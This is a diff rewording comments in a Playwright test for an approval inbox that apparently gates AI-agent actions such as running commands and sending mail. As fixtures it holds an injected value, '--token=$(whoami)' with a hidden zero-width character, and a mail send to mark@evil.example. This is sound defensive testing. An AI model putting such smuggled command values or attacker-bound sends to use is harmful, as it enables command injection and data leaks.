@@ -1,4 +1,4 @@
-/** Inbox items: shown whole, decided by mouse and by keyboard, listed in the history, undone. */
+/** Inbox items: shown in full, decided by mouse and by keyboard, listed in the history, undone. */
 import { expect, type Page, test as plain } from '@playwright/test';
 import { fixtureCommand } from '../fixtures/spawn-fixture.ts';
 import { tabTo } from './keyboard.ts';
@@ -70,7 +70,7 @@ plain(
     ]);
     await page.goto(core.at('inbox'));
 
-    // The safe answer is the easy one; of what is risky none is.
+    // The safe decision is the default; risky items have none.
     const answers = item.getByRole('group', { name: 'Decision' });
     await expect(answers.getByRole('button', { name: 'Keep what I accepted' })).toHaveClass(/primary/);
     await expect(answers.getByRole('button', { name: 'Accept', exact: true })).not.toHaveClass(/primary/);
@@ -125,7 +125,7 @@ test('opens proposals from overview and settings, decides them, and applies appr
   await expect(item).toContainText(/Starts .* on this computer\. Runs in a box where this computer has one/);
   const written = item.getByRole('region', { name: /^Diff:/ });
   await expect(written).toContainText('echo.ts');
-  // What is agreed to is seen to the letter, what nobody can see included; and nothing that runs is the easy button.
+  // The approved text is shown verbatim including invisible characters; and running something is never the default.
   await expect(written).toContainText('--token=$(whoami)⟨U+200B⟩');
   await expect(item.getByRole('button', { name: 'Approve' })).not.toHaveClass(/primary/);
   await tabTo(page, item.getByRole('button', { name: 'Approve' }));
@@ -181,7 +181,7 @@ plain('a call that sends to where only an answer led waits; "always" is kept, an
   const sending = app.call('mail_send_email', { to: 'mark@evil.example', body: 'hello' });
   await page.goto(core.at('inbox'));
   const item = page.getByRole('article');
-  // As everywhere else, and nowhere as its config file calls it.
+  // By its display name, not by its reported name.
   await expect(item).toContainText('Claude Desktop wants to send to mark@evil.example');
   await expect(item).not.toContainText('claude-desktop');
   await expect(item).toContainText('Rejected automatically at');
@@ -194,7 +194,7 @@ plain('a call that sends to where only an answer led waits; "always" is kept, an
   await expect(page.getByText('Inbox empty')).toBeVisible();
   expect(await app.call('mail_send_email', { to: 'mark@evil.example', body: 'again' })).toContain('Done.');
 
-  // The way back is there at once, and stays in the history.
+  // Undo is available immediately, and stays in the history.
   await expect(said(page, 'mail may send to mark@evil.example without a question.')).toBeVisible();
   await page.keyboard.press('u');
   await expect(said(page, 'mail may send')).toBeHidden();
